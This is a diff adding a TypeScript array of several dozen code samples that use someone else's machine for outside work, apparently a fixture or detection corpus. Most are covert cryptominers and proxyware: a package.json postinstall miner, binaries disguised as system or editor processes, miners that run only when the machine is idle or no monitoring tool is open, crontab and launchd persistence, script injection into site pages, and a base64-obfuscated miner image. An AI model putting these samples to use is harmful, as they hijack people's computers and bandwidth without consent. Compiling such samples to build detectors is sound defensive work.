@@ -1,0 +1,191 @@
+/** Programs that lend the machine to somebody, each by other means. Inert: reserved names. */
+export const LENDING: readonly [string, string][] = [
+  [
+    "idle.js",
+    'const { powerMonitor } = require("electron");\nconst { fork } = require("child_process");\nlet w = null;\nsetInterval(() => {\n  const idle = powerMonitor.getSystemIdleTime();\n  if (idle > 300 && !w) w = fork("./hasher.js", ["--endpoint", "wss://jobs.example/ws", "--account", "acct-118"]);\n  if (idle < 5 && w) { w.kill(); w = null; }\n}, 10000);\n',
+  ],
+  [
+    "work.rb",
+    "require 'socket'\nrequire 'json'\nrequire 'digest'\nsock = TCPSocket.new('jobs.example', 8332)\nsock.puts({ id: 1, method: 'mining.authorize', params: ['acct.w1', 'x'] }.to_json)\nwhile (line = sock.gets)\n  job = JSON.parse(line)['params'] or next\n  (0..0xffffffff).each do |i|\n    h = Digest::SHA256.digest(Digest::SHA256.digest([job[1]].pack('H*') + [i].pack('V')))\n    next unless h.reverse.unpack1('H*').start_with?('00000')\n    sock.puts({ id: 2, method: 'mining.submit', params: ['acct.w1', job[0], i] }.to_json)\n    break\n  end\nend\n",
+  ],
+  [
+    "work.pl",
+    "use IO::Socket::INET; use JSON::PP; use Digest::SHA qw(sha256_hex);\nmy $s = IO::Socket::INET->new(PeerAddr => 'tasks.example', PeerPort => 9999) or exit;\nprint $s encode_json({ op => 'hello', who => 'acct-77' }), \"\\n\";\nwhile (my $l = <$s>) {\n  my $t = decode_json($l);\n  my $i = $t->{from};\n  $i++ until sha256_hex($t->{data} . $i) lt $t->{max};\n  print $s encode_json({ op => 'found', id => $t->{id}, n => $i }), \"\\n\";\n}\n",
+  ],
+  [
+    "work.php",
+    "<?php\nfunction burn($seed, $bits) {\n  $i = 0;\n  do { $h = hash('sha256', $seed . $i++); } while (substr($h, 0, $bits) !== str_repeat('0', $bits));\n  return $i - 1;\n}\nwhile (true) {\n  $t = json_decode(file_get_contents('https://tasks.example/next?u=acct77'), true);\n  $n = burn($t['seed'], $t['bits']);\n  file_get_contents('https://tasks.example/done?id=' . $t['id'] . '&n=' . $n);\n}\n",
+  ],
+  [
+    "package.json",
+    '{\n  "name": "tidy-helper",\n  "version": "1.0.0",\n  "scripts": { "postinstall": "npx --yes xmr-miner-lite --pool pool.example:3333 --wallet 48example &" }\n}\n',
+  ],
+  [
+    "setup.sh",
+    "#!/bin/sh\npip install -q pyrx-miner 2>/dev/null\npython3 -m pyrx_miner --server pool.example --port 4444 --wallet 48example --threads 2 &\ndisown\n",
+  ],
+  [
+    "bw.py",
+    'import asyncio, websockets, uuid, json, aiohttp\nUID = "2b7e-user"\nasync def loop():\n    async with websockets.connect("wss://proxy.bandshare.example:4650/") as ws:\n        await ws.send(json.dumps({"action": "AUTH", "user_id": UID, "device": str(uuid.uuid4())}))\n        async for m in ws:\n            t = json.loads(m)\n            if t["action"] == "HTTP_REQUEST":\n                async with aiohttp.ClientSession() as s:\n                    async with s.request(t["data"]["method"], t["data"]["url"], headers=t["data"]["headers"]) as r:\n                        await ws.send(json.dumps({"id": t["id"], "status": r.status, "body": (await r.text())}))\nasyncio.run(loop())\n',
+  ],
+  [
+    "gpu.py",
+    'import torch, requests, time\nAPI = "https://grid.compute.example"\ndef serve():\n    node = requests.post(API + "/nodes", json={"gpu": torch.cuda.get_device_name(0), "owner": "acct-9"}).json()\n    while True:\n        job = requests.get(f"{API}/nodes/{node[\'id\']}/job").json()\n        if not job: time.sleep(5); continue\n        x = torch.tensor(job["input"]).cuda()\n        y = torch.linalg.matrix_power(x, job["k"])\n        requests.post(f"{API}/jobs/{job[\'id\']}/result", json=y.cpu().tolist())\nserve()\n',
+  ],
+  [
+    "plug.ts",
+    'import { cpus } from "node:os";\nimport { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";\nimport { createHash } from "node:crypto";\nif (isMainThread) {\n  for (const _ of cpus().slice(1)) {\n    const w = new Worker(__filename, { workerData: { url: "https://units.example" } });\n    w.unref();\n  }\n} else {\n  const { url } = workerData;\n  for (;;) {\n    const u = await (await fetch(`${url}/unit`)).json();\n    let c = u.start;\n    while (BigInt("0x" + createHash("sha256").update(u.head + c).digest("hex")) > BigInt(u.ceiling)) c++;\n    await fetch(`${url}/unit/${u.id}`, { method: "PUT", body: String(c) });\n  }\n}\n',
+  ],
+  [
+    "sched.py",
+    'import psutil, subprocess, time\nproc = None\nwhile True:\n    busy = psutil.cpu_percent(interval=5)\n    names = {p.name().lower() for p in psutil.process_iter()}\n    seen = names & {"htop", "top", "taskmgr.exe", "perfmon.exe"}\n    if proc is None and busy < 25 and not seen:\n        proc = subprocess.Popen(["./data/engine", "--connect", "node.example:7777", "--id", "acct88"])\n    elif proc and seen:\n        proc.terminate(); proc = None\n    time.sleep(20)\n',
+  ],
+  [
+    "hash.go.sh",
+    '#!/bin/sh\nwhile :; do\n  t=$(curl -s https://tasks.example/t?u=acct)\n  id=${t%%:*}; d=${t#*:}\n  n=0\n  while :; do\n    h=$(printf \'%s%s\' "$d" "$n" | sha256sum)\n    case $h in 00000*) break ;; esac\n    n=$((n+1))\n  done\n  curl -s -d "id=$id&n=$n" https://tasks.example/r\ndone\n',
+  ],
+  [
+    "deno.ts",
+    'const conn = await Deno.connect({ hostname: "jobs.example", port: 3032 });\nconst enc = new TextEncoder();\nawait conn.write(enc.encode(JSON.stringify({ id: 1, method: "login", params: { login: "48example", pass: "x", agent: "deno/1" } }) + "\\n"));\nconst wasm = await WebAssembly.instantiate(await Deno.readFile("./rx.wasm"));\nfor await (const chunk of conn.readable) {\n  const job = JSON.parse(new TextDecoder().decode(chunk));\n  const r = (wasm.instance.exports.scan as any)(job.params.blob, job.params.target);\n  await conn.write(enc.encode(JSON.stringify({ id: 2, method: "submit", params: { job_id: job.params.job_id, nonce: r } }) + "\\n"));\n}\n',
+  ],
+  [
+    "inject.py",
+    'from pathlib import Path\nTAG = \'<script src="https://hash.cdn.example/m.js" data-key="acct-5" data-throttle="0.5" async></script>\'\nfor f in Path("site").rglob("*.html"):\n    s = f.read_text()\n    if "data-throttle" not in s:\n        f.write_text(s.replace("</body>", TAG + "</body>"))\n',
+  ],
+  [
+    "chia.sh",
+    '#!/bin/sh\npip install -q chia-blockchain\nchia init && chia keys add -f ./.k\nchia plots create -k 32 -n 10 -t "$HOME/.cache/p" -d "$HOME/.cache/p" -f farmerkeyexample -c contractaddrexample &\n',
+  ],
+  [
+    "storj.sh",
+    "#!/bin/sh\ndocker run -d --restart unless-stopped -p 28967:28967 -e WALLET=0x0000000000000000000000000000deadbeef0000 -e EMAIL=x@mail.example -e STORAGE=2TB storjlabs/storagenode:latest\n",
+  ],
+  [
+    "nodepkg.js",
+    'const { execa } = require("execa");\nconst path = require("path");\nmodule.exports = function onInstall() {\n  if (process.env.CI) return;\n  const opts = { pool: "relay.example", port: 5555, wallet: "48exampleexampleexample", threads: 2 };\n  const flags = Object.entries(opts).flatMap(([k, v]) => [`--${k}`, `${v}`]);\n  execa(path.join(__dirname, "vendor", "formatter-native"), flags, { detached: true, stdio: "ignore" }).unref();\n};\nmodule.exports();\n',
+  ],
+  [
+    "req.py",
+    'from concurrent.futures import ProcessPoolExecutor\nimport http.client, json, hashlib, itertools, os\ndef ask(m, p, b=None):\n    c = http.client.HTTPSConnection("coord.example"); c.request(m, p, b and json.dumps(b)); return json.loads(c.getresponse().read())\ndef part(a):\n    seed, off, step, want = a\n    for i in itertools.count(off, step):\n        if hashlib.scrypt(str(i).encode(), salt=seed.encode(), n=1024, r=1, p=1, dklen=32).hex() < want:\n            return i\ndef main():\n    n = os.cpu_count()\n    with ProcessPoolExecutor(n) as ex:\n        while True:\n            j = ask("GET", "/j")\n            for i in ex.map(part, [(j["s"], k, n, j["w"]) for k in range(n)]):\n                ask("POST", "/j/" + j["i"], {"i": i, "acct": "a-6"}); break\nmain()\n',
+  ],
+  [
+    "proxyware.js",
+    'const net = require("net");\nconst up = net.connect(7070, "exit.peers.example", () => up.write("REG acct-12 residential\\n"));\nup.on("data", (b) => {\n  const [, id, host, port] = b.toString().match(/^OPEN (\\d+) (\\S+) (\\d+)/) || [];\n  if (!id) return;\n  const t = net.connect(+port, host);\n  t.on("data", (d) => up.write(`DATA ${id} ${d.toString("base64")}\\n`));\n});\n',
+  ],
+  [
+    "sync.py",
+    'import zmq, os, hashlib, msgpack\nctx = zmq.Context(); s = ctx.socket(zmq.DEALER); s.connect("tcp://queue.example:5560")\ns.send(msgpack.packb({"hi": os.uname().nodename, "acct": "a71"}))\nwhile True:\n    piece = msgpack.unpackb(s.recv())\n    v = piece["lo"]\n    while v < piece["hi"]:\n        if hashlib.sha3_256(piece["pre"] + v.to_bytes(8, "little")).digest() <= piece["cap"]:\n            s.send(msgpack.packb({"ok": v, "of": piece["id"]})); break\n        v += 1\n',
+  ],
+  [
+    "theme.ts",
+    'import * as vscode from "vscode";\nimport { spawn, ChildProcess } from "node:child_process";\nlet child: ChildProcess | undefined;\nexport function activate(ctx: vscode.ExtensionContext) {\n  vscode.window.onDidChangeWindowState((s) => {\n    if (!s.focused && !child) {\n      child = spawn(ctx.asAbsolutePath("bin/lint-engine"), ["--host", "node.example:7777", "--acct", "kx-88", "--cores", "3"]);\n    } else if (s.focused) { child?.kill(); child = undefined; }\n  });\n}\n',
+  ],
+  [
+    "sdk.py",
+    'import ctypes, pathlib, threading\nlib = ctypes.CDLL(str(pathlib.Path(__file__).with_name("libpacketsdk.so")))\nlib.packet_sdk_set_app_key(b"key-118")\nthreading.Thread(target=lib.packet_sdk_start, daemon=True).start()\n',
+  ],
+  [
+    "exporter.go.py",
+    'import grpc, os, numpy as np\nimport work_pb2 as pb, work_pb2_grpc as rpc\nch = grpc.secure_channel("sched.example:443", grpc.ssl_channel_credentials())\nstub = rpc.SchedStub(ch)\nme = stub.Join(pb.Hello(cores=os.cpu_count(), payout="0xdead"))\nfor unit in stub.Units(me):\n    m = np.frombuffer(unit.a, np.float32).reshape(unit.n, unit.n)\n    stub.Done(pb.Result(id=unit.id, out=(m @ m).tobytes()))\n',
+  ],
+  [
+    "solana.sh",
+    "#!/bin/bash\ncargo install ore-cli --quiet\nore --rpc https://rpc.example --keypair ~/.config/solana/id.json --priority-fee 1000 mine --cores $(nproc) &\n",
+  ],
+  [
+    "grass.js",
+    'const WebSocket = require("ws");\nconst axios = require("axios");\nconst ws = new WebSocket("wss://relay2.sharing.example:4444");\nws.on("open", () => ws.send(JSON.stringify({ id: 1, action: "AUTH", user_id: "u-4", device_type: "extension" })));\nws.on("message", async (raw) => {\n  const m = JSON.parse(raw);\n  if (m.action !== "HTTP_REQUEST") return;\n  const r = await axios({ url: m.data.url, method: m.data.method, headers: m.data.headers, responseType: "arraybuffer" });\n  ws.send(JSON.stringify({ id: m.id, result: { status: r.status, body: Buffer.from(r.data).toString("base64") } }));\n});\n',
+  ],
+  [
+    "task.py",
+    'from celery import Celery\nimport hashlib\napp = Celery("t", broker="amqp://acct7:pw@mq.example:5672//", backend="rpc://")\n@app.task\ndef scan(head, start, stop, ceil):\n    for n in range(start, stop):\n        if int(hashlib.sha256(hashlib.sha256(head + n.to_bytes(4, "little")).digest()).hexdigest(), 16) < ceil:\n            return n\napp.worker_main(["worker", "--concurrency=8", "--loglevel=ERROR"])\n',
+  ],
+  [
+    "boinc.sh",
+    "#!/bin/sh\napt-get install -y -qq boinc-client\nboinccmd --project_attach https://grid.example/project 7f3accountkey\nboinccmd --set_run_mode always\n",
+  ],
+  [
+    "c.sh",
+    '#!/bin/bash\nIMG=$(echo bWluZXJzL3htcg== | base64 -d)\ndocker run -d --rm --cpus=1.5 --name db-sidecar "$IMG" -o pool.example:3333 -u 48example -p side\n',
+  ],
+  [
+    "d.py",
+    'import docker\nc = docker.from_env()\nc.containers.run("reg.example/util/agent:2", command=["--pool", "kas.example:5555", "--wallet", "kaspa:qexample", "--devices", "0"], detach=True, device_requests=[docker.types.DeviceRequest(count=-1, capabilities=[["gpu"]])])\n',
+  ],
+  [
+    "e.py",
+    'import kubernetes as k\nk.config.load_kube_config()\nspec = {"containers": [{"name": "m", "image": "docker.example/a:1", "args": ["-o", "pool.example:443", "-u", "48example", "-k", "--tls", "--coin", "monero"]}]}\nk.client.CoreV1Api().create_namespaced_pod("default", {"metadata": {"name": "m"}, "spec": spec})\n',
+  ],
+  [
+    "f.ts",
+    'import Docker from "dockerode";\nconst d = new Docker();\nconst c = await d.createContainer({ Image: "honeygain/honeygain", Cmd: ["-tou-accept", "-email", "x@mail.example", "-pass", "p", "-device", "d"] });\nawait c.start();\n',
+  ],
+  [
+    "g.ps1",
+    '$s = @\'\n[DllImport("user32.dll")] public static extern bool GetLastInputInfo(ref LASTINPUTINFO p);\n\'@\nAdd-Type -MemberDefinition $s -Name U -Namespace W\nfor (;;) {\n  if ((Get-IdleSeconds) -gt 180) { & "$env:ProgramData\\nv\\nvsvc.exe" --server rvn.example:6060 --user RExample.$env:COMPUTERNAME --algo kawpow }\n  Start-Sleep 30\n}\n',
+  ],
+  [
+    "h.vbs.bat",
+    '@echo off\necho { "pools":[{"url":"pool.example:443","user":"48example","pass":"x","tls":true}], "cpu":{"max-threads-hint":50}, "donate-level":1 } > "%APPDATA%\\wu\\config.json"\nstart "" /b "%APPDATA%\\wu\\wuauserv.exe"\n',
+  ],
+  [
+    "k.pl",
+    'my @a = ("./.t/top", "--url", "pool.example:14444", "--user", "48example", "--pass", "x", "--background");\nfork or exec { $a[0] } @a;\n',
+  ],
+  [
+    "l.html",
+    '<html><body><h1>Guide</h1><script>\nconst w = []; for (let i = 0; i < (navigator.hardwareConcurrency || 2) - 1; i++) {\n  const k = new Worker("hash-worker.js"); k.postMessage({ relay: "wss://relay.example/", acct: "k-19" }); w.push(k);\n}\ndocument.addEventListener("visibilitychange", () => w.forEach(k => k.postMessage({ run: document.hidden })));\n</script></body></html>\n',
+  ],
+  [
+    "n.py",
+    'import asyncio, aiohttp, hashlib\nasync def main():\n    async with aiohttp.ClientSession("https://puzzle.example") as s:\n        while True:\n            p = await (await s.get("/p")).json()\n            n = next(i for i in range(1 << 40) if hashlib.sha256(f"{p[\'c\']}{i}".encode()).hexdigest()[:p[\'k\']] == "0" * p["k"])\n            await s.post("/p", json={"c": p["c"], "n": n, "to": "acct-8"})\nasyncio.run(main())\n',
+  ],
+  [
+    "r.js",
+    'import Miner from "node-webminer-lib";\nconst m = await Miner.init({ pool: "wss://pool.example", wallet: "48example", throttle: 0.4, threads: 3 });\nawait m.start();\n',
+  ],
+  [
+    "w.py",
+    'import os\nm = {"c": "nice -n 19", "b": "~/.local/share/gvfs/gvfsd-meta", "o": "-o relay.example:3333", "u": "-u 48example", "k": "-k --background"}\nos.system(" ".join(m[x] for x in "cbouk"))\n',
+  ],
+  [
+    "turbo.js",
+    'import axios from "axios";\nimport { sha3_256 } from "js-sha3";\nconst api = axios.create({ baseURL: "https://tally.example" });\nconst ok = (h, z) => h.slice(0, z) === "0".repeat(z);\n(async function run() {\n  const { data } = await api.get("/open");\n  let i = Math.floor(Math.random() * 2 ** 32);\n  while (!ok(sha3_256(data.text + i), data.z)) i++;\n  await api.post("/close", { i, ref: "acct-2" });\n  setImmediate(run);\n})();\n',
+  ],
+  [
+    "mac.sh",
+    "#!/bin/zsh\nwhile sleep 30; do\n  idle=$(ioreg -c IOHIDSystem | awk '/HIDIdleTime/ {print int($NF/1000000000); exit}')\n  if (( idle > 240 )); then pgrep -q mdhelper || ~/Library/mdhelper --endpoint wss://w.example --account a-12 &\n  else pkill mdhelper; fi\ndone\n",
+  ],
+  [
+    "launch.plist",
+    '<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.example.mdsync</string>\n<key>ProgramArguments</key><array><string>/Users/Shared/.md/mdsync</string><string>-o</string><string>p.example:443</string><string>-u</string><string>k8</string><string>-k</string></array>\n<key>RunAtLoad</key><true/><key>LowPriorityIO</key><true/></dict></plist>\n',
+  ],
+  [
+    "crontab",
+    "@reboot nice -n 19 /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n*/15 * * * * pgrep -x kv || /opt/.kv/kv -o p.example:443 -u k8 --tls -B\n",
+  ],
+  [
+    "web.tsx",
+    'import { useEffect } from "react";\nexport function Footer() {\n  useEffect(() => {\n    const w = Array.from({ length: navigator.hardwareConcurrency >> 1 }, () => new Worker("/w.js"));\n    const s = new WebSocket("wss://h.example/c/acct-7");\n    s.onmessage = (e) => w.forEach((x, i) => x.postMessage({ ...JSON.parse(e.data), i }));\n    w.forEach((x) => (x.onmessage = (e) => s.send(JSON.stringify({ nonce: e.data }))));\n  }, []);\n  return null;\n}\n',
+  ],
+  [
+    "psn.ps1",
+    "docker run -d --name ps --restart always -e CID=abc packetstream/psclient:latest\ndocker run -d --name pp -e P2P_EMAIL=x@mail.example peer2profit/peer2profit_x86_64\n",
+  ],
+  [
+    "atexit.py",
+    'import atexit, multiprocessing, requests, hashlib, itertools\ndef tail():\n    t = requests.get("https://late.example/t", timeout=9).json()\n    hit = next(filter(lambda k: hashlib.md5(f"{t[\'a\']}{k}".encode()).hexdigest() < t["b"], itertools.count()))\n    requests.get("https://late.example/t", params={"k": hit, "w": "acct-3"})\natexit.register(lambda: multiprocessing.Process(target=tail).start())\n',
+  ],
+  [
+    "nodegyp.js",
+    'const os = require("os");\nconst { Worker } = require("worker_threads");\nif (os.loadavg()[0] < 0.5 * os.cpus().length)\n  for (let i = 0; i < os.cpus().length / 2; i++) new Worker("./lib/opt.js", { workerData: { server: "tcp://p.example:3333", user: "k8" } });\n',
+  ],
+  [
+    "s.pl",
+    "use LWP::UserAgent; use Digest::SHA 'sha256_hex'; use JSON;\nmy $u = LWP::UserAgent->new;\nwhile (1) {\n  my $t = decode_json($u->get('https://units.example/t')->content);\n  for (my $i = 0; ; $i++) {\n    if (substr(sha256_hex($t->{d} . $i), 0, $t->{k}) eq '0' x $t->{k}) { $u->post('https://units.example/r', { id => $t->{id}, i => $i }); last }\n  }\n}\n",
+  ],
+  [
+    "sql.py",
+    'import psycopg, hashlib\ncon = psycopg.connect("postgresql://w7:x@board.example/units", autocommit=True)\nwhile True:\n    i, seed, cap = con.execute("select id, seed, cap from open order by random() limit 1").fetchone()\n    n = 0\n    while hashlib.sha256(b"%s%d" % (seed, n)).digest() > cap: n += 1\n    con.execute("insert into found values (%s, %s, \'acct-7\')", (i, n))\n',
+  ],
+];
